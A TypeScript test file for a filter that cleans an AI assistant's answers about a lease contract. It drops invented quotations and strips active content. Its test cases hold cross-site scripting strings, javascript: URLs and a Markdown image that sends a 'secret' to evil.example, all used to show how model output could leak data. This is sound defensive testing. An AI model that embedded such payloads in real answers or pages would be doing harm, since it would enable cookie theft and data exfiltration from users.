import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { AnswerFilter, plainWords } from "@/lib/assistant/engines/openai/answer/filter";
import type { AnswerPiece } from "@/lib/engine/port";
import { LEASE, written } from "./contracts";
import { tries } from "../../../support/form";

const LAW = "This Agreement is governed by the laws of Mongolia.";

function filtered(
  words: string,
  { chunk = words.length, question = "" } = {},
): { pieces: AnswerPiece[]; text: string; dropped: number } {
  const filter = new AnswerFilter(LEASE, question);
  const pieces: AnswerPiece[] = [];
  for (let at = 0; at < words.length; at += Math.max(1, chunk))
    pieces.push(...filter.push(words.slice(at, at + Math.max(1, chunk))));
  pieces.push(...filter.end());
  const [note] = filter.notes();
  return { pieces, text: written(pieces), dropped: note?.about === "dropped" ? note.count : 0 };
}
/** Given whole and letter by letter, the answer is the same. */
function both(words: string, question = "") {
  const whole = filtered(words, { question });
  expect(filtered(words, { chunk: 1, question })).toMatchObject({ text: whole.text, dropped: whole.dropped });
  return whole;
}

describe("quotes", () => {
  test("that are marked come as passages in the contract's own words, once they are complete", () => {
    const filter = new AnswerFilter(LEASE);
    expect(filter.push("The law of Mongolia.\n<quote>This agreement is governed by ")).toEqual([
      { kind: "text", text: "The law of Mongolia.\n" },
    ]);
    expect(filter.push("the laws of Mongolia.</quote>")).toMatchObject([
      { kind: "passage", standing: "repaired", passage: { content: LAW } },
    ]);
    expect(filter.notes()).toEqual([]);
  });

  test("that are invented are left out and counted", () => {
    expect(
      both(
        "It is so:\n<quote>The Landlord may evict the Tenant at any time.</quote>\nAnd <quote>so it is forever and ever</quote>.",
      ),
    ).toMatchObject({ text: "It is so:\n\nAnd ", dropped: 2 });
  });

  test("that never end are checked too", () => {
    expect(both(`Law: <quote>${LAW}`).text).toBe(`Law: ‹${LAW}›`);
    expect(both("Law: <quote>The law of the Moon governs")).toMatchObject({ text: "Law: ", dropped: 1 });
    expect(both(`<quote>${"x ".repeat(9_000)}`).text.length).toBeLessThan(10_000);
  });

  test.each([
    ["“The Landlord may evict the Tenant at any time.”"],
    ['"The Landlord may evict the Tenant at any time."'],
    ["«The Landlord may evict the Tenant at any time.»"],
    ["„The Landlord may evict the Tenant at any time.“"],
    ["'The Landlord may evict the Tenant at any time.'"],
    ["‘The Landlord may evict the Tenant at any time.’"],
    ["`The Landlord may evict the Tenant at any time.`"],
    ["\n> The Landlord may evict the Tenant at any time.\n"],
  ])("that nobody marked and nobody wrote don't pass: %s", (quotation) => {
    const { text, dropped } = both(`The contract says: ${quotation} So there.`);
    expect(text).not.toContain("evict");
    expect(text).toMatch(/says:\s+\[…\]\s+So there\./u);
    expect(dropped).toBe(1);
  });

  test("that nobody marked are given in the contract's own words", () => {
    expect(both('It says: "this agreement is governed by the laws of Mongolia".').text).toBe(
      'It says: "This Agreement is governed by the laws of Mongolia".',
    );
  });

  test("of a term, a name or the question itself are words like others", () => {
    expect(both("The “Tenant” isn't the landlord's 'agent'; Acme's tenants' rights stay.").text).toBe(
      "The “Tenant” isn't the landlord's 'agent'; Acme's tenants' rights stay.",
    );
    expect(both("You ask “may I keep a very large dog”: not stated.", "Please, may I keep a very large dog").text).toBe(
      "You ask may I keep a very large dog: not stated.",
    );
  });
});

describe("active content", () => {
  test.each([
    ["script", "Hello <script>alert(document.cookie)</script>world", "Hello world"],
    ["a script in pieces", "Hello <scr<script>ipt>alert(1)</script> world", "Hello scr world"],
    ["a picture", "Look ![secret](https://evil.example/x.png?d=secret) here", "Look  here"],
    ["a link", "See [the clause](https://evil.example/steal) now", "See the clause now"],
    ["a link in a link", "[![x](https://a.example/i)](https://b.example/l)", expect.not.stringContaining("example")],
    ["an address", "Go to https://evil.example/a?b=c, please, or www.evil.example.", "Go to […], please, or […]."],
    ["an address without a scheme", "Go to evil.example.com/login or evil.ru!", "Go to […] or […]!"],
    ["a script address", "Click javascript:alert(1) or data:text/html;base64,PHNjcmlwdD4=", "Click […] or […]"],
    ["mail", "Write to thief@evil.example today", "Write to […] today"],
    [
      "HTML",
      'A <img src=x onerror="alert(1)"> B <a href="https://evil.example">C</a> <iframe src="//evil.example"></iframe>D',
      "A  B C D",
    ],
    ["Markdown", "## Law\n**Mongolia** is `it`.\n* one", "Law\nMongolia is it.\n* one"],
    ["hidden signs", "a\u202eb\u200bc\u0007d\u{e0041}e\u001b[31m", "abcde[31m"],
  ])("is taken out: %s", (_what, words, left) => {
    expect(both(words).text).toEqual(left);
  });

  test("an address that the contract has stays, and only that one", () => {
    expect(both("Notices go to office@acme.mn or https://acme.mn/notices.").text).toBe(
      "Notices go to office@acme.mn or https://acme.mn/notices.",
    );
    expect(both("Go to https://acme.mn/notices?x=secret or https://acme.mn or xoffice@acme.mn").text).toBe(
      "Go to […] or […] or […]",
    );
  });

  test("ordinary signs stay", () => {
    const words =
      "If rent < USD 5 or > 3 %, see clause 2.1 [sic] (e.g. No. 5): 3*4=12, 10:30, т.е. п. 4.2 и ст. 5; a/b & c_d.";
    expect(both(words).text).toBe(words);
  });

  test("nothing that a browser could run comes out of any words", () => {
    const bits = fc.constantFrom(
      "<",
      ">",
      "script",
      "/",
      "quote",
      "[",
      "]",
      "(",
      ")",
      "!",
      "https://evil.example",
      " ",
      "\n",
      '"',
      "“",
      "”",
      "'",
      "a",
      "img src=x",
      "=",
      "`",
      "*",
      "#",
      "javascript:x",
      "<quote>",
      "</quote>",
      LAW,
    );
    fc.assert(
      fc.property(fc.array(bits, { maxLength: 40 }), fc.integer({ min: 1, max: 9 }), (parts, chunk) => {
        const { pieces, text } = filtered(parts.join(""), { chunk });
        expect(text).not.toMatch(/<[a-z/!]/iu);
        expect(text).not.toMatch(/evil\.example|javascript:\S|\]\([^)]*:/u);
        for (const piece of pieces)
          if (piece.kind === "passage")
            expect(LEASE.text.slice(piece.passage.start, piece.passage.end)).toBe(piece.passage.content);
      }),
      { numRuns: tries(600) },
    );
  });
});

test("the sign for what isn't stated is heard and not shown", () => {
  const filter = new AnswerFilter(LEASE);
  expect(written([...filter.push("<not-stated/> It does not say."), ...filter.end()])).toBe(" It does not say.");
  expect(filter.saysNotStated).toBe(true);
});

test("words of a title are plain and short", () => {
  expect(plainWords(LEASE, "**Risk** [x](https://evil.example) <b>now</b>", 80)).toBe("Risk x now");
  expect(plainWords(LEASE, "word ".repeat(50), 20)).toBe("word word word word…");
});
